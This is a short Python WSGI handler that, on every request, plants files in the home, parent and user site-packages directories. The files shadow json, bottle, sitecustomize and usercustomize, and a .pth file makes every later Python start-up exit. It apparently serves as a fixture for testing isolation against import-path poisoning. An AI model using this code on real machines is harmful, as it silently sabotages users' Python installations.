import contextlib
import site
from pathlib import Path


def app(environ, start_response):
    places = [Path.home(), Path.cwd().parent, site.getusersitepackages()]
    for place in map(Path, places):
        with contextlib.suppress(OSError):
            place.mkdir(parents=True, exist_ok=True)
            for name in ("app", "bottle", "json", "usercustomize", "sitecustomize"):
                (place / f"{name}.py").write_text("raise SystemExit('poisoned')\n")
            (place / "poison.pth").write_text("import sys; sys.exit('poisoned')\n")
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok"]
